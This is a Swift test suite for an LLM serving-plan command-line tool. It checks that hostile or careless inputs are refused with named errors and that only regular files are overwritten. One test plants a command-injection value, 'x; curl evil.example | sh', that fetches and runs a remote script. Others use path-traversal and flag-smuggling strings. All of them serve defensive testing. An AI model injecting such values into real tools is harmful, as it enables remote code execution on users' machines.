import ArgumentParser
import Core
import Executor
import Foundation
import PigPlanCommands
import Planning
import Profiles
import Rendering
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Inputs a hostile or careless user gives: each gets a message naming the input, never a trap,
/// and nothing but a regular file is ever replaced.
@Suite struct HostileInputTests {
    init() { quietProfileWarnings() }

    /// A profile as a JSON object, edited, as file text.
    func edited<T: Encodable>(_ profile: T, _ change: (inout [String: Any]) -> Void) throws -> String {
        var object = try JSONSerialization.jsonObject(with: Data(try ProfileStore.prettyJSON(profile).utf8)) as! [String: Any]
        change(&object)
        return String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self)
    }

    func message(_ body: () throws -> Void) -> String? {
        do { try body(); return nil } catch { return ExportCommand.message(for: error) }
    }

    @Test func hugeBatchesAreRejectedByName() throws {
        let m = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "96k", "--batch", "9223372036854775807"]) }
        #expect(m?.contains("--batch 9223372036854775807") == true)
        let n = message { _ = try PlanOptions.parse(["--hw", "xeon-6338", "--ctx", "1", "--max-batch", "9223372036854775807"]) }
        #expect(n?.contains("--max-batch") == true)
    }

    @Test func outRefusesAnythingButARegularFile() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        // A FIFO, a symbolic link (to a file that must stay untouched), a folder path, a character device.
        let fifo = dir.appendingPathComponent("pipe").path
        #expect(mkfifo(fifo, 0o644) == 0)
        let target = dir.appendingPathComponent("target.txt")
        try "keep".write(to: target, atomically: true, encoding: .utf8)
        let link = dir.appendingPathComponent("link.json").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target.path)
        for (path, reason) in [(fifo, "FIFO"), (link, "symbolic link"), (dir.path + "/", "names a folder"), ("/dev/null", "character device")] {
            let m = message { try ExportCommand.parse(["--hw", "h200", "--ctx", "32k", "--out", path]).run() }
            #expect(m?.contains(reason) == true, "\(path): \(m ?? "no error")")
            #expect(m?.contains("NSCocoaErrorDomain") == false)
        }
        #expect(try String(contentsOf: target, encoding: .utf8) == "keep")
        var info = stat()
        #expect(lstat(fifo, &info) == 0 && info.st_mode & S_IFMT == S_IFIFO)
        // Nothing else was left in the folder (no temporary files).
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.path).sorted() == ["link.json", "pipe", "target.txt"])
        // A missing folder is named.
        let missing = message { try ExportCommand.parse(["--hw", "h200", "--ctx", "32k", "--out", dir.path + "/no/such/plan.json"]).run() }
        #expect(missing?.contains("does not exist") == true)
    }

    @Test func magicPIGCommandQuotesProfileStrings() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let models = dir.appendingPathComponent("models")
        try FileManager.default.createDirectory(at: models, withIntermediateDirectories: true)
        try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
            $0["huggingFaceId"] = "x; curl evil.example | sh #'"
            var shape = $0["shape"] as! [String: Any]
            shape["name"] = "evil"
            $0["shape"] = shape
        }.write(to: models.appendingPathComponent("evil.json"), atomically: true, encoding: .utf8)
        // An id that is no repository id never reaches an exported command: the profile is refused.
        let refused = message {
            _ = try PlanOptions.parse(["--hw", "h200-host16", "--ctx", "32k", "--model", "evil", "--profiles-dir", dir.path]).request()
        }
        #expect(refused?.contains("huggingFaceId") == true && refused?.contains("is not a Hugging Face repository id") == true)
        for bad in ["-trust-remote-code", "", "a/b/c", "x\u{0}y", "../etc"] {
            try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
                $0["huggingFaceId"] = bad
                var shape = $0["shape"] as! [String: Any]
                shape["name"] = "evil"
                $0["shape"] = shape
            }.write(to: models.appendingPathComponent("evil.json"), atomically: true, encoding: .utf8)
            #expect(message { _ = try ProfileStore.load(directory: dir.path) }?.contains("huggingFaceId") == true, "\(bad)")
        }
        #expect(shellQuoted("a'b") == "'a'\\''b'")
        #expect(shellQuoted("meta-llama/Llama-3.1-8B") == "meta-llama/Llama-3.1-8B")
    }

    @Test func jsonNeverCarriesNonFiniteNumbers() throws {
        struct Row: Encodable { var rate = Double.nan; var big = Double.infinity; var fine = 1.5 }
        let text = try PlanRenderer.json(Row())
        #expect(!text.lowercased().contains("nan") && !text.contains("inf"))
        #expect(text.contains("\"rate\" : null") && text.contains("\"big\" : null") && text.contains("\"fine\" : 1.5"))
        #expect(Format.number(.nan) == "n/a" && Format.bytes(.infinity) == "n/a" && Format.seconds(.nan) == "n/a")
    }

    @Test func absurdProfileValuesNameTheKey() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let gpus = dir.appendingPathComponent("gpus")
        try FileManager.default.createDirectory(at: gpus, withIntermediateDirectories: true)
        try edited(try ProfileStore.builtIn().gpu("rtx4090")) { $0["memoryBandwidthBytesPerSecond"] = 1e-300 }
            .write(to: gpus.appendingPathComponent("rtx4090.json"), atomically: true, encoding: .utf8)
        let m = message { _ = try ProfileStore.load(directory: dir.path) }
        #expect(m?.contains("memoryBandwidthBytesPerSecond") == true, "\(m ?? "loaded")")
        // Counts past 2^24 (a head count of 2^32) are refused where the file is read.
        let models = dir.appendingPathComponent("models")
        try FileManager.default.removeItem(at: gpus)
        try FileManager.default.createDirectory(at: models, withIntermediateDirectories: true)
        try edited(try ProfileStore.builtIn().model("llama-3.1-8b")) {
            var shape = $0["shape"] as! [String: Any]
            shape["queryHeadCount"] = 4_294_967_296
            $0["shape"] = shape
        }.write(to: models.appendingPathComponent("llama-3.1-8b.json"), atomically: true, encoding: .utf8)
        let h = message { _ = try ProfileStore.load(directory: dir.path) }
        #expect(h?.contains("queryHeadCount") == true, "\(h ?? "loaded")")
    }

    @Test func importNamingAnUnknownModelWritesNothing() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let shipped = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("ProfilesTests/h200-host-kernels.json")
        var tables = try String(contentsOf: shipped, encoding: .utf8)
        if !tables.contains("referenceModel") {
            tables = tables.replacingOccurrences(of: "\"measuredOn\"", with: "\"referenceModel\": \"no-such-model\",\n \"measuredOn\"")
        }
        let file = dir.appendingPathComponent("tables.json")
        try tables.write(to: file, atomically: true, encoding: .utf8)
        let profiles = dir.appendingPathComponent("profiles").path
        try FileManager.default.createDirectory(atPath: profiles, withIntermediateDirectories: true)
        let m = message { try CalibrateCommand.parse(["--import", file.path, "--into", "rtx4090-epyc", "--profiles-dir", profiles]).run() }
        #expect(m?.contains("no-such-model") == true, "\(m ?? "imported")")
        #expect(!FileManager.default.fileExists(atPath: profiles + "/systems/rtx4090-epyc.json"))
        // Later commands still work.
        _ = try Planner.plan(try PlanOptions.parse(["--hw", "rtx4090-epyc", "--ctx", "32k", "--profiles-dir", profiles]).request())
    }

    @Test func negativeNumbersAreNamedNotMissing() {
        let m = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "96k", "--batch", "-5"]) }
        #expect(m?.contains("--batch -5") == true, "\(m ?? "accepted")")
        let t = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "96k", "--threads", "-2"]).request() }
        #expect(t?.contains("-2") == true && t?.contains("Missing value") == false, "\(t ?? "accepted")")
    }

    @Test func executorRangesLiveWithThePlanners() {
        // The two-hit rule needs two tables: one table is refused by run as by plan.
        let run = message { _ = try RunCommand.parse(["--ctx", "1k", "--attention", "lsh", "--k", "8", "--l", "1"]) }
        #expect(run?.contains("--l 1") == true, "\(run ?? "accepted")")
        let plan = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "96k", "--l", "1"]) }
        #expect(plan?.contains("--l 1") == true)
    }

    @Test func executorSizesAreBoundedBeforeAllocation() throws {
        let shape = ModelShape(name: "tiny", layerCount: 2, hiddenSize: 64, intermediateSize: 128, queryHeadCount: 4,
                               kvHeadCount: 2, headDim: 16, vocabSize: 100, denseLayers: [0])
        func reason(_ request: ExecutorRequest) -> String {
            do { _ = try Executor.run(request); return "ran" } catch { return "\(error)" }
        }
        let huge = ExecutorRequest(weights: .synthetic(shape: shape, layers: nil, seed: 1), prompt: .syntheticTokens(count: 1 << 30))
        #expect(reason(huge).contains("prompt.count"))
        var wide = ExecutorRequest(weights: .synthetic(shape: shape, layers: nil, seed: 1), prompt: .syntheticTokens(count: 1024))
        wide.batch = 1_000_000_000
        #expect(reason(wide).contains("batch"))
        var lsh = ExecutorRequest(weights: .synthetic(shape: shape, layers: nil, seed: 1), prompt: .syntheticTokens(count: 1024))
        lsh.attention = .lshSampled(LSHParameters(hashBitsPerTable: 8, tableCount: 1))
        #expect(reason(lsh).contains("two-hit"))
    }

    @Test func planExtraDenseLayersAreRun() throws {
        let shape = ModelShape(name: "t", layerCount: 8, hiddenSize: 64, intermediateSize: 128, queryHeadCount: 4,
                               kvHeadCount: 2, headDim: 16, vocabSize: 100, denseLayers: [0, 4])
        // The model's {0, 4} plus the first two others, as the cost model counts 2 + 2.
        #expect(shape.denseLayers(extra: 2) == [0, 1, 2, 4])
        #expect(shape.denseLayers(extra: 0) == [0, 4])
        #expect(shape.denseLayers(extra: 100).count == 8)
        // A budget or (K, L) that the chosen attention would ignore is refused, not dropped.
        let budget = message { _ = try RunCommand.parse(["--ctx", "1k", "--attention", "lsh", "--budget", "0.5"]) }
        #expect(budget?.contains("--budget 0.5") == true)
        let kl = message { _ = try RunCommand.parse(["--ctx", "1k", "--attention", "dense", "--k", "8", "--l", "75"]) }
        #expect(kl?.contains("--k / --l") == true)
    }

    /// A config.json the fuzzing once trapped on (a head dimension whose products overflow).
    @Test func configThatOnceTrappedIsRefused() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let config = dir.appendingPathComponent("m/config.json")
        try FileManager.default.createDirectory(at: config.deletingLastPathComponent(), withIntermediateDirectories: true)
        try #"{"num_hidden_layers": 32, "hidden_size": 4096, "intermediate_size": 14336, "num_attention_heads": 32, "num_key_value_heads": 8, "head_dim": 9223372036854775807, "vocab_size": 128256}"#
            .write(to: config, atomically: true, encoding: .utf8)
        let m = message { _ = try PlanOptions.parse(["--hw", "rtx4090", "--ctx", "8k", "--model-config", config.path]).request() }
        #expect(m?.contains("head_dim") == true, "\(m ?? "accepted")")
    }

    @Test func listsAndCountsAreBoundedAndNamed() throws {
        #expect(message { _ = try SweepCommand.parse(["--hw", "h200,h200", "--ctx", "4k"]) }?.contains("--hw h200: given twice") == true)
        #expect(message { _ = try SweepCommand.parse(["--hw", "", "--ctx", "4k"]) }?.contains("a name is empty") == true)
        #expect(message { _ = try SweepCommand.parse(["--ctx", "4k,,8k"]) }?.contains("--ctx") == true)
        #expect(message { _ = try ValidateCommand.parse(["--repeats", "0"]) }?.contains("--repeats 0") == true)
        #expect(message { _ = try ValidateCommand.parse(["--repeats", "1000000000"]) }?.contains("--repeats 1000000000") == true)
        // 64 stages for an 80-layer model: stages of 2 layers fill only 40 nodes.
        let nodes = message {
            var c = try PigPlanCommand.parseAsRoot(["--hw", "8xh100", "--model", "llama-3.1-70b", "--ctx", "32k", "--nodes", "64"])
            try c.run()
        }
        #expect(nodes?.contains("fill only 40 nodes") == true, "\(nodes ?? "no error")")
        let layers = message { _ = try RunCommand.parse(["--model", "smollm2-135m", "--layers", "1000000", "--ctx", "600"]).request(mode: .dense, measureQuality: false) }
        #expect(layers?.contains("--layers 1000000") == true, "\(layers ?? "no error")")
    }

    @Test func servingCommandsGoToTheOutFile() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("serve.sh")
        let c = try ExportCommand.parse(["--target", "vllm", "--hw", "h200", "--ctx", "8k", "--out", file.path])
        try c.run()
        let text = try String(contentsOf: file, encoding: .utf8)
        #expect(text.hasPrefix("vllm serve meta-llama/Llama-3.1-8B-Instruct"))
        // A 240-character name is legal (NAME_MAX 255) and written whatever the temporary name.
        let long = dir.appendingPathComponent(String(repeating: "p", count: 235) + ".json")
        try ExportCommand.parse(["--hw", "h200", "--ctx", "8k", "--out", long.path]).run()
        #expect(FileManager.default.fileExists(atPath: long.path))
    }

    @Test func csvQuotesNamesFromProfiles() {
        #expect(CSV.row(["a,b", "say \"hi\"", "plain"]) == "\"a,b\",\"say \"\"hi\"\"\",plain")
    }

    /// A plan file carries the deployment it was predicted with, and `run --plan` refuses one
    /// this executor would run differently.
    @Test func planFilesKeepTheirDeployment() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let int4 = dir.appendingPathComponent("int4.json")
        try ExportCommand.parse(["--hw", "h200", "--model", "smollm2-135m", "--ctx", "2k", "--batch", "2", "--weights", "int4",
                                 "--out", int4.path]).run()
        let file = try PlanFile.read(path: int4.path)
        #expect(file.deployment?.weights == .int4 && file.deployment?.tensorParallel == 1)
        let refused = message { _ = try RunCommand.parse(["--plan", int4.path, "--layers", "1", "--steps", "1"]).request(mode: .dense, measureQuality: false) }
        #expect(refused?.contains("stores weights as int4") == true, "\(refused ?? "no error")")
        let tp = dir.appendingPathComponent("tp.json")
        try ExportCommand.parse(["--hw", "8xh100", "--model", "llama-3.1-70b", "--ctx", "8k", "--tp", "4", "--attention", "dense", "--out", tp.path]).run()
        let split = message { _ = try RunCommand.parse(["--plan", tp.path, "--layers", "1", "--steps", "1"]).request(mode: .dense, measureQuality: false) }
        #expect(split?.contains("over 4 GPUs") == true, "\(split ?? "no error")")
    }

    /// Devices, FIFOs and folders given as input files are named for what they are, at once (a
    /// FIFO would otherwise block the read forever).
    @Test func inputFilesMustBeRegularFiles() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let fifo = dir.appendingPathComponent("fifo").path
        #expect(mkfifo(fifo, 0o600) == 0)
        for (path, what) in [("/dev/zero", "character device"), (fifo, "FIFO"), (dir.path, "folder")] {
            let config = message { _ = try PlanOptions.parse(["--hw", "h200", "--ctx", "4k", "--model-config", path]).request() }
            #expect(config?.contains(what) == true, "--model-config \(path): \(config ?? "no error")")
            let plan = message { _ = try RunCommand.parse(["--plan", path]).request(mode: .dense, measureQuality: false) }
            #expect(plan?.contains(what) == true, "--plan \(path): \(plan ?? "no error")")
            let gguf = message {
                _ = try Executor.memoryRequirement(try RunCommand.parse(["--gguf", path, "--ctx", "100"]).request(mode: .dense, measureQuality: false))
            }
            #expect(gguf?.contains(what) == true, "--gguf \(path): \(gguf ?? "no error")")
            let tables = message { try CalibrateCommand.parse(["--import", path, "--into", "h200", "--profiles-dir", dir.path]).run() }
            #expect(tables?.contains(what) == true, "--import \(path): \(tables ?? "no error")")
        }
    }

    /// A replaced output keeps the permission bits of the file it replaces (a 0600 plan file is
    /// not widened to 0644, a 0644 one not narrowed to mkstemp's 0600); a new one gets the mode
    /// any new file gets under this umask.
    @Test func replacedFilesKeepTheirModeAndNewFilesGetTheDefault() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        func mode(_ path: String) -> mode_t {
            var info = stat()
            return lstat(path, &info) == 0 ? info.st_mode & 0o7777 : 0o7777
        }
        func make(_ name: String, _ bits: mode_t) throws -> String {
            let path = dir.appendingPathComponent(name).path
            try "old".write(toFile: path, atomically: false, encoding: .utf8)
            #expect(chmod(path, bits) == 0)
            return path
        }
        for bits: mode_t in [0o600, 0o644, 0o640, 0o664, 0o755, 0o400] {
            let path = try make("single-\(String(bits, radix: 8)).txt", bits)
            try OutputFile.write("new", to: path, option: "--out")
            #expect(mode(path) == bits, "\(String(bits, radix: 8)) became \(String(mode(path), radix: 8))")
            #expect(try String(contentsOfFile: path, encoding: .utf8) == "new")
        }
        // Files landing together keep theirs each.
        let a = try make("a.json", 0o600), b = try make("b.csv", 0o644)
        try OutputFile.writeAll([("{}", a), ("x", b)], option: "--out")
        #expect(mode(a) == 0o600 && mode(b) == 0o644)
        // A new path: what open(2) with 0666 gives under this process's umask.
        let reference = dir.appendingPathComponent("reference").path
        close(open(reference, O_WRONLY | O_CREAT | O_EXCL, 0o666))
        let fresh = dir.appendingPathComponent("fresh.json").path
        try OutputFile.write("{}", to: fresh, option: "--out")
        #expect(mode(fresh) == mode(reference), "\(String(mode(fresh), radix: 8)) against \(String(mode(reference), radix: 8))")
        // Through a command: export over a private plan file keeps it private.
        let plan = try make("plan.json", 0o600)
        try ExportCommand.parse(["--hw", "h200", "--ctx", "8k", "--out", plan]).run()
        #expect(mode(plan) == 0o600)
        #expect(try PlanFile.read(path: plan).contextTokens == 8192)
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.path).allSatisfy { !$0.hasPrefix(".") }, "no temporary file left")
    }

    /// Several outputs of one command land together or not at all.
    @Test func severalOutputsLandTogetherOrNotAtAll() throws {
        let dir = try makeTemporaryDirectory("hostile")
        defer { try? FileManager.default.removeItem(at: dir) }
        let a = dir.appendingPathComponent("a.csv"), b = dir.appendingPathComponent("b.json")
        try "old".write(to: a, atomically: true, encoding: .utf8)
        try FileManager.default.createDirectory(at: b, withIntermediateDirectories: true)  // not a file
        #expect(throws: OutputFileError.self) { try OutputFile.writeAll([("new", a.path), ("{}", b.path)], option: "--out") }
        #expect(try String(contentsOf: a, encoding: .utf8) == "old")
        #expect(try FileManager.default.contentsOfDirectory(atPath: dir.path).sorted() == ["a.csv", "b.json"], "no temporary file left")
        try FileManager.default.removeItem(at: b)
        try OutputFile.writeAll([("new", a.path), ("{}", b.path)], option: "--out")
        #expect(try String(contentsOf: a, encoding: .utf8) == "new" && (try String(contentsOf: b, encoding: .utf8)) == "{}")
    }
}
